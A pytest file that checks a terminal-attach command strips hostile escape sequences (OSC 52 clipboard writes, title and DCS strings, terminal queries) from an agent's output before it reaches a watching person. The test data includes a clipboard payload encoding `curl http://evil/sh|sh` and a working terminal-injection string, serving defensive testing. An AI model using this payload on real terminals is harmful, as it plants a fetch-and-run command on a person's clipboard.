"""`dsh attach` shows a person an agent's terminal; what the agent's
program prints must not act on the person's terminal. The attack a review
reproduced: the program prints an OSC 52 (set the person's clipboard to a
command), a title, a DCS string and queries (device attributes, cursor
position, background color, a setting); a view that forwards the output
hands all of it to the person's terminal, which sets the clipboard and
title and answers the queries — and with `--write` its answers are typed
into the agent's terminal. The view draws the emulator's screen instead,
and drops what the person's terminal sends that is an answer, not a key.

`dsh attach` runs here on a real pty, as a person runs it; the test plays
the person's terminal: it reads what reaches it, and types, answers
included."""

import fcntl
import os
import pty
import select
import subprocess
import termios
import threading

import anyio
import pytest

from conftest import connect, dsh_bin, ok
from waiting import eventually, wait_until

pytestmark = pytest.mark.anyio

CLIPBOARD = "Y3VybCBodHRwOi8vZXZpbC9zaHxzaA=="  # base64 of `curl http://evil/sh|sh`

# What the agent's program prints once a person watches: visible text
# around every kind of string and query.
HOSTILE = (
    "before-visible\r\n"
    f"\x1b]52;c;{CLIPBOARD}\x07"
    "\x1b]0;evil-title-zero\x07"
    "\x1b]2;evil-title-two\x1b\\"
    "\x1bPevil-dcs-string\x1b\\"
    "\x1b_evil-apc-string\x1b\\"
    "\x1b[c\x1b[>c\x1b[6n\x1b[5n"
    "\x1b]11;?\x07\x1b]10;?\x1b\\"
    "\x1bP$qm\x1b\\"
    "\x1b[21t"
    "after-visible\r\n"
)

# The program: waits for the agent's go, prints HOSTILE, then reads one
# line and shows it.
PROGRAM = (
    "import sys\n"
    "sys.stdin.readline()\n"
    f"sys.stdout.write({HOSTILE!r})\n"
    "sys.stdout.write('ready> ')\n"
    "sys.stdout.flush()\n"
    "print('GOT', repr(sys.stdin.readline()))\n"
    "sys.stdin.readline()\n"
)

# What a person's terminal answers to those queries (a real emulator's
# answers, with values no emulator in the daemon gives), then the keys
# the person types.
ANSWERS = (
    b"\x1b[?65;1;9;4242c"
    b"\x1b[>41;4242;0c"
    b"\x1b[42;42R"
    b"\x1b[0n"
    b"\x1b]11;rgb:dead/beef/cafe\x07"
    b"\x1b]10;rgb:dead/beef/cafe\x1b\\"
    b"\x1bP1$r4242m\x1b\\"
    b"\x1b]l4242-title\x1b\\"
)


class PersonsTerminal:
    """`argv` on a pty that is its controlling terminal; everything it
    writes is collected by a thread."""

    def __init__(self, argv, env):
        self.master, slave = pty.openpty()

        def controlling_tty():
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

        self.proc = subprocess.Popen(
            argv, stdin=slave, stdout=slave, stderr=slave, env=env,
            start_new_session=True, preexec_fn=controlling_tty,
        )
        os.close(slave)
        self.seen = b""
        self.lock = threading.Lock()
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        while True:
            ready, _, _ = select.select([self.master], [], [], 0.5)
            if not ready:
                if self.proc.poll() is not None:
                    return
                continue
            try:
                chunk = os.read(self.master, 4096)
            except OSError:
                return  # the other side closed: the program exited
            if not chunk:
                return
            with self.lock:
                self.seen += chunk

    def shown(self) -> bytes:
        with self.lock:
            return self.seen

    def type(self, data: bytes):
        os.write(self.master, data)

    def close(self):
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait(timeout=30)
        self.reader.join(timeout=30)
        os.close(self.master)


async def test_attach_draws_the_screen_and_forwards_no_string_query_or_answer(isolated_env):
    async with connect(isolated_env) as agent:
        ok(await agent.call_tool("terminal_open", {"command": ["python3", "-c", PROGRAM], "name": "hostile"}))
        person = PersonsTerminal([dsh_bin(), "attach", "pty-1", "--write"], isolated_env)
        try:
            await anyio.to_thread.run_sync(lambda: wait_until(
                lambda: person.proc.poll() is not None or b"\x1b[" in person.shown(),
                "the view to draw the screen"))
            ok(await agent.call_tool("terminal_send", {"id": "pty-1", "text": "go"}))
            await anyio.to_thread.run_sync(lambda: wait_until(
                # (the drawing leaves a row's trailing blanks out: the
                # cursor stands after the prompt's space)
                lambda: person.proc.poll() is not None or b"ready>" in person.shown(),
                "the program's prompt on the person's terminal"))

            # the person's terminal answers (as an emulator would; the daemon's own
            # emulator answered the queries already), then the person types
            person.type(ANSWERS + b"hello\r")

            async def got():
                r = ok(await agent.call_tool("terminal_read", {"id": "pty-1"}))
                return r["output"] if "GOT" in r["output"] else None

            read = await eventually(got, "the program to show the line it read")
            person.type(b"\x1d")  # Ctrl-] leaves
            await anyio.to_thread.run_sync(lambda: wait_until(
                lambda: b"detached from pty-1" in person.shown(), "the view to end"))
        finally:
            await anyio.to_thread.run_sync(person.close)
    seen = person.shown()
    assert b"before-visible" in seen and b"after-visible" in seen and b"ready>" in seen, seen
    for hostile in (
        CLIPBOARD.encode(), b"evil-title", b"evil-dcs", b"evil-apc",
        b"\x1b]", b"\x1bP", b"\x1b_", b"\x07",
        b"\x1b[c", b"\x1b[>c", b"\x1b[6n", b"\x1b[5n", b"\x1b[21t",
    ):
        assert hostile not in seen, (hostile, seen)
    line = read[read.index("GOT"):].splitlines()[0]
    assert "hello" in line, read
    for answer in ("4242", "dead/beef", "42;42R"):
        assert answer not in line, (answer, read)
